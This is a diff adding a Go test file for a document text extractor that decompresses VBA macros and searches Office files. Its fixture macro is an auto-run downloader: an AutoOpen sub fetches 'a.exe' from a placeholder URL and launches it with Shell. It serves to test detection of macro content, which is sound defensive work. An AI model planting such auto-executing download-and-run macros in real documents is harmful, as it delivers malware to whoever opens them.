@@ -0,0 +1,125 @@
+package extract
+
+import (
+	"archive/zip"
+	"bytes"
+	"context"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestVBADecompress_SpecExample(t *testing.T) {
+	// [MS-OVBA] 3.2.3 的示例
+	compressed := []byte{
+		0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70,
+		0x61, 0x67, 0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30, 0x6D, 0x6E, 0x6F,
+		0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79,
+		0x7A, 0x00, 0x3C,
+	}
+	got, truncated, err := vbaDecompress(compressed, vbaMaxSourceBytes)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"; string(got) != want || truncated {
+		t.Fatalf("got %q truncated=%v", got, truncated)
+	}
+
+	// 输出上限：截到 limit 并报告截断
+	got, truncated, err = vbaDecompress(vbaCompressLiterals(bytes.Repeat([]byte("x"), 100)), 10)
+	if err != nil || len(got) != 10 || !truncated {
+		t.Fatalf("limit: got %d bytes truncated=%v err=%v", len(got), truncated, err)
+	}
+
+	// 复制记号使一个块解压后超过 4096 字节：'a' 之后复制 4098 字节
+	if _, _, err := vbaDecompress([]byte{0x01, 0x03, 0xB0, 0x02, 'a', 0xFF, 0x0F}, vbaMaxSourceBytes); err == nil {
+		t.Fatal("oversized chunk: want error")
+	}
+}
+
+// vbaCompressLiterals 生成只含字面量的压缩容器（单块，len(b) 需小于约 3.5KiB）。
+func vbaCompressLiterals(b []byte) []byte {
+	var body []byte
+	for i := 0; i < len(b); i += 8 {
+		body = append(body, 0)
+		body = append(body, b[i:minInt(i+8, len(b))]...)
+	}
+	out := []byte{1, 0, 0}
+	binary.LittleEndian.PutUint16(out[1:], 0xB000|uint16(len(body)+2-3))
+	return append(out, body...)
+}
+
+// testVBAProject 生成含一个模块的 VBA 存储（dir + 模块流），键带 prefix。
+func testVBAProject(prefix, module, code string) map[string][]byte {
+	rec := func(id uint16, data []byte) []byte {
+		b := make([]byte, 6, 6+len(data))
+		binary.LittleEndian.PutUint16(b, id)
+		binary.LittleEndian.PutUint32(b[2:], uint32(len(data)))
+		return append(b, data...)
+	}
+	u16 := func(v uint16) []byte { return []byte{byte(v), byte(v >> 8)} }
+	var dir []byte
+	dir = append(dir, rec(0x0001, []byte{1, 0, 0, 0})...)
+	dir = append(dir, rec(0x0003, u16(1252))...)
+	// PROJECTVERSION：Reserved 写 4，其后实为 6 字节（VersionMajor 4 + VersionMinor 2）
+	dir = append(dir, 0x09, 0x00, 0x04, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x02, 0x00)
+	dir = append(dir, rec(0x000F, u16(1))...)
+	dir = append(dir, rec(0x0013, u16(0xFFFF))...)
+	dir = append(dir, rec(0x0019, []byte(module))...)
+	dir = append(dir, rec(0x0047, utf16LEBytes(module))...)
+	dir = append(dir, rec(0x001A, []byte(module))...)
+	dir = append(dir, rec(0x0032, utf16LEBytes(module))...)
+	dir = append(dir, rec(0x0031, []byte{10, 0, 0, 0})...)
+	dir = append(dir, rec(0x002B, nil)...)
+	dir = append(dir, rec(0x0010, nil)...)
+
+	stream := append(make([]byte, 10), vbaCompressLiterals([]byte(code))...)
+	return map[string][]byte{
+		prefix + "VBA/dir":       vbaCompressLiterals(dir),
+		prefix + "VBA/" + module: stream,
+		prefix + "PROJECT":       []byte("ID=\"{0}\"\r\n"),
+	}
+}
+
+const testVBACode = "Attribute VB_Name = \"Loader\"\r\nSub AutoOpen()\r\n    URLDownloadToFile 0, \"http://x\", \"a.exe\", 0, 0\r\n    Shell \"a.exe\"\r\nEnd Sub\r\n"
+
+func TestVBA_OOXMLAndLegacy(t *testing.T) {
+	dir := t.TempDir()
+
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, body := range map[string][]byte{
+		"[Content_Types].xml":   []byte(`<?xml version="1.0"?><Types/>`),
+		"word/document.xml":     []byte(`<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:t>正文</w:t></w:body></w:document>`),
+		"word/vbaProject.bin":   buildCFB(t, testVBAProject("", "Loader", testVBACode)),
+		"word/_rels/x.xml.rels": []byte(`<Relationships/>`),
+	} {
+		w, _ := zw.Create(name)
+		_, _ = w.Write(body)
+	}
+	_ = zw.Close()
+	docm := filepath.Join(dir, "a.docm")
+	if err := os.WriteFile(docm, buf.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	legacyFiles := testVBAProject("Macros/", "Loader", testVBACode)
+	legacyFiles["WordDocument"] = make([]byte, 100)
+	doc := filepath.Join(dir, "b.doc")
+	if err := os.WriteFile(doc, buildCFB(t, legacyFiles), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	for _, p := range []string{docm, doc} {
+		found, snip, err := FileFindFirst(context.Background(), p, "URLDownloadToFile", 5)
+		if !found || !strings.HasPrefix(snip, "宏 Loader: ") {
+			t.Fatalf("%s: found=%v snip=%q err=%v", p, found, snip, err)
+		}
+	}
+	text, err := Default.ExtractText(context.Background(), docm, 0)
+	if err != nil || !strings.Contains(text, "正文") || !strings.Contains(text, "Shell \"a.exe\"") {
+		t.Fatalf("text=%q err=%v", text, err)
+	}
+}